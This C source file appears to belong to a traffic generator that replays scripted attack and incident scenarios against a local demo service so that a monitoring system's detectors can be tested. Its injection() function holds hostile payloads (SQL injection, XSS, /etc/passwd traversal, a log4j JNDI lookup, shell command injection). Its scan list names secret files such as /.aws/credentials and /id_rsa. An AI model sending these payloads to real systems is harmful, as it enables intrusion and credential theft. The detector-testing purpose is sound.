/* The scheduled scenarios (see scenarios.h). */
#include "scenarios.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "common/time_util.h"
#include "sensor/http_client.h"
#include "tg_names.h"
#include "tg_random.h"

const char *const tg_scenario_names[TG_SC_COUNT] = {
    "latency", "5xx", "scan", "bruteforce", "bruteforce-distributed", "flood", "injection",
    "oversized"};

static const struct {
    const char *expect, *description, *clients, *route;
} about[TG_SC_COUNT] = {
    [TG_SC_LATENCY] = {"latency_regression,response_time_spike",
                   "the busy API route answers ~600 ms instead of ~6 ms for 12 s", "127.10.0.0/16",
                   "/api/products"},
    [TG_SC_5XX] = {"error_rate_spike,server_error", "80 % 5xx on the busy API route for 10 s",
               "127.10.0.0/16", "/api/products"},
    [TG_SC_SCAN] = {"endpoint_scan", "40 well-known paths at 8 req/s from one address",
                "127.66.0.10", "(40 paths)"},
    [TG_SC_BRUTE] = {"brute_force", "40 failed logins at 4 req/s from one address",
                 "127.66.0.20", "/api/auth/login"},
    [TG_SC_BRUTE_DIST] = {"brute_force,distributed_brute_force",
                      "60 failed logins at 5 req/s from 30 addresses", "127.77.0.1-30",
                      "/api/auth/login"},
    [TG_SC_FLOOD] = {"request_flood", "500 requests at 50 req/s from one address",
                 "127.66.0.30", "/api/products/7"},
    [TG_SC_INJECTION] = {"sql_injection,xss,path_traversal,injection_attempt",
                     "12 sqlmap-style SQLi, XSS, traversal, log4j and command payloads at 2 req/s",
                     "127.66.0.40", "/api/search and others"},
    [TG_SC_OVERSIZED] = {"large_request", "2 order bodies of 12-20 MB", "127.66.0.50",
                     "/api/orders"},
};

int tg_scenarios_parse(const char *list, unsigned *mask)
{
    return tg_parse_names(list, tg_scenario_names, TG_SC_COUNT, mask);
}

void tg_incident_apply(tg_incident *inc, tg_request *r, uint64_t *rng)
{
    int kind = atomic_load(&inc->kind);
    if (!kind || strncmp(r->target, TG_BUSY_ROUTE, strlen(TG_BUSY_ROUTE)) != 0 ||
        sf_http_now_us() >= atomic_load(&inc->until_us))
        return;
    size_t n = strlen(r->headers);
    if (kind == 1) {
        snprintf(r->headers + n, sizeof r->headers - n, "X-Demo-Delay: %d\r\n",
                 (int)tg_lognormal(rng, 600, 0.3));
    } else if (tg_uniform(rng) < 0.8) {
        snprintf(r->headers + n, sizeof r->headers - n, "X-Demo-Status: %d\r\n",
                 (int[]){500, 502, 503}[tg_range(rng, 0, 2)]);
    } else {
        return;
    }
    atomic_fetch_add(&inc->affected, 1);
}

typedef struct run {
    tg_send_fn send;
    tg_sender *sender;
    atomic_bool *stop;
    uint64_t rng;
    long sent;
} run;

static void sleep_until(int64_t due)
{
    int64_t left = due - sf_http_now_us();
    if (left > 0) {
        struct timespec ts = {.tv_sec = left / 1000000, .tv_nsec = (left % 1000000) * 1000};
        nanosleep(&ts, NULL);
    }
}

/* Sends a request from source at the given pace (requests/s), counting it. */
static void paced_send(run *rn, const char *source, tg_request *r, int64_t *next, double rate)
{
    sleep_until(*next);
    *next += (int64_t)(1e6 / rate);
    r->unpaced = true;
    rn->send(rn->sender, source, r);
    free(r->body);
    r->body = NULL;
    rn->sent++;
}

static tg_request req(const char *method, const char *target, const char *ua)
{
    tg_request r = {.method = method, .user_agent = ua};
    snprintf(r.target, sizeof r.target, "%s", target);
    return r;
}

static void body(tg_request *r, const char *text)
{
    r->body = strdup(text);
    r->body_len = strlen(text);
}

static void incident(run *rn, tg_incident *inc, int kind, double seconds)
{
    atomic_store(&inc->affected, 0);
    atomic_store(&inc->until_us, sf_http_now_us() + (int64_t)(seconds * 1e6));
    atomic_store(&inc->kind, kind);
    while (!atomic_load(rn->stop) && sf_http_now_us() < atomic_load(&inc->until_us))
        sleep_until(sf_http_now_us() + 100000);
    atomic_store(&inc->kind, 0);
    rn->sent = atomic_load(&inc->affected);
}

static void scan(run *rn)
{
    static const char *const paths[] = {
        "/.env", "/.git/config", "/.git/HEAD", "/.htaccess", "/.svn/entries", "/.DS_Store",
        "/admin/", "/administrator/", "/wp-admin/", "/wp-login.php", "/xmlrpc.php", "/phpmyadmin/",
        "/server-status", "/cgi-bin/test.cgi", "/backup.zip", "/backup.tar.gz", "/db.sql",
        "/dump.sql", "/config.php", "/config.json", "/config.yml", "/web.config",
        "/.aws/credentials", "/id_rsa", "/manager/html", "/jmx-console/", "/console/",
        "/actuator/env", "/actuator/health", "/api/swagger.json", "/swagger-ui.html",
        "/v2/api-docs", "/graphql", "/api/v1/users", "/api/internal/debug", "/api/admin/users",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/shell.php", "/info.php", "/debug/"};
    int64_t next = sf_http_now_us();
    for (size_t i = 0; i < sizeof paths / sizeof *paths && !atomic_load(rn->stop); i++) {
        tg_request r = req("GET", paths[i],
                           "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)");
        paced_send(rn, "127.66.0.10", &r, &next, 8);
    }
}

static void brute(run *rn, bool distributed)
{
    static const char *const users[] = {"admin", "alice", "root", "test", "support", "info"};
    int n = distributed ? 60 : 40;
    int64_t next = sf_http_now_us();
    for (int i = 0; i < n && !atomic_load(rn->stop); i++) {
        char ip[32], text[160];
        if (distributed)
            snprintf(ip, sizeof ip, "127.77.0.%d", 1 + (int)((i * 7 + i / 30) % 30));
        else
            snprintf(ip, sizeof ip, "127.66.0.20");
        snprintf(text, sizeof text, "{\"username\":\"%s\",\"password\":\"%s%d\"}",
                 distributed ? users[i % 6] : "admin",
                 (const char *[]){"password", "123456", "qwerty", "letmein", "dragon"}[i % 5], i);
        tg_request r = req("POST", "/api/auth/login",
                           distributed ? tg_browser_for((uint32_t)i) : "Mozilla/4.0 (Hydra)");
        body(&r, text);
        paced_send(rn, ip, &r, &next, distributed ? 5 : 4);
    }
}

static void flood(run *rn)
{
    int64_t next = sf_http_now_us();
    for (int i = 0; i < 500 && !atomic_load(rn->stop); i++) {
        tg_request r = req("GET", "/api/products/7", "Go-http-client/1.1");
        paced_send(rn, "127.66.0.30", &r, &next, 50);
    }
}

static void injection(run *rn)
{
    static const char *const targets[] = {
        "/api/search?q=kettle%27", "/api/search?q=kettle%27%20OR%20%271%27%3D%271",
        "/api/search?q=1%27%20UNION%20ALL%20SELECT%20username%2Cpassword%20FROM%20users--%20-",
        "/api/search?q=1%27%20AND%20SLEEP(5)--%20-", "/api/products?id=1%3B%20DROP%20TABLE%20users--",
        "/api/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
        "/api/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "/static/..%2F..%2F..%2F..%2Fetc%2Fpasswd", "/api/products?file=..%2F..%2F..%2Fetc%2Fshadow",
        "/api/search?q=%24%7Bjndi%3Aldap%3A%2F%2F127.0.0.99%3A1389%2Fa%7D",
        "/api/search?q=test%3Bcat%20%2Fetc%2Fpasswd", "/api/search?q=%60id%60"};
    int64_t next = sf_http_now_us();
    for (size_t i = 0; i < sizeof targets / sizeof *targets && !atomic_load(rn->stop); i++) {
        tg_request r = req("GET", targets[i], "sqlmap/1.7.2#stable (https://sqlmap.org)");
        paced_send(rn, "127.66.0.40", &r, &next, 2);
    }
}

static void oversized(run *rn)
{
    int64_t next = sf_http_now_us();
    for (int i = 0; i < 2 && !atomic_load(rn->stop); i++) {
        size_t n = (size_t)tg_range(&rn->rng, 12 << 20, 20 << 20);
        tg_request r = req("POST", "/api/orders", "curl/8.4.0");
        if (!(r.body = malloc(n)))
            return;
        memset(r.body, 'x', n);
        memcpy(r.body, "{\"note\":\"", 9);
        memcpy(r.body + n - 2, "\"}", 2);
        r.body_len = n;
        paced_send(rn, "127.66.0.50", &r, &next, 0.2);
    }
}

static void log_line(const tg_schedule *sc, int k, int64_t start_wall, int64_t end_wall, long n)
{
    FILE *f = sc->log ? fopen(sc->log, "a") : NULL;
    if (!f)
        return;
    char a[SF_RFC3339_LEN], b[SF_RFC3339_LEN];
    fprintf(f, "{\"name\":\"%s\",\"expect\":\"%s\",\"description\":\"%s\",\"start\":\"%s\","
            "\"end\":\"%s\",\"clients\":\"%s\",\"route\":\"%s\",\"requests\":%ld}\n",
            tg_scenario_names[k], about[k].expect, about[k].description,
            sf_time_format(start_wall, a, sizeof a), sf_time_format(end_wall, b, sizeof b),
            about[k].clients, about[k].route, n);
    fclose(f);
}

/* The order they run in: the route incidents not first, so the route has a baseline;
 * the two brute forces on the login route first and last, more than a minute apart even
 * back to back, so the distributed one is found on its own. */
static const int order[TG_SC_COUNT] = {TG_SC_BRUTE, TG_SC_SCAN, TG_SC_LATENCY, TG_SC_FLOOD,
                                       TG_SC_INJECTION, TG_SC_5XX, TG_SC_OVERSIZED,
                                       TG_SC_BRUTE_DIST};

static void wait_until(atomic_bool *stop, int64_t due)
{
    while (!atomic_load(stop) && sf_http_now_us() < due)
        sleep_until(sf_http_now_us() + 100000 < due ? sf_http_now_us() + 100000 : due);
}

void tg_scenarios_run(const tg_schedule *sc, int64_t t0_us, tg_incident *inc, tg_send_fn send,
                      tg_sender *sender, atomic_bool *stop, uint64_t seed)
{
    run rn = {.send = send, .sender = sender, .stop = stop, .rng = seed ? seed : 7};
    for (int cycle = 0; !atomic_load(stop); cycle++) {
        wait_until(stop, t0_us + (int64_t)((sc->start_s + cycle * sc->repeat_s) * 1e6));
        for (int i = 0; i < TG_SC_COUNT && !atomic_load(stop); i++) {
            int k = order[i];
            if (!(sc->mask & (1u << k)))
                continue;
            int64_t start = sf_now_us();
            rn.sent = 0;
            switch (k) {
            case TG_SC_LATENCY: incident(&rn, inc, 1, 12); break;
            case TG_SC_5XX: incident(&rn, inc, 2, 10); break;
            case TG_SC_SCAN: scan(&rn); break;
            case TG_SC_BRUTE: brute(&rn, false); break;
            case TG_SC_BRUTE_DIST: brute(&rn, true); break;
            case TG_SC_FLOOD: flood(&rn); break;
            case TG_SC_INJECTION: injection(&rn); break;
            default: oversized(&rn); break;
            }
            if (!atomic_load(stop))
                log_line(sc, k, start, sf_now_us(), rn.sent);
            wait_until(stop, sf_http_now_us() + (int64_t)(sc->gap_s * 1e6));
        }
        if (sc->repeat_s <= 0)
            break;
    }
}
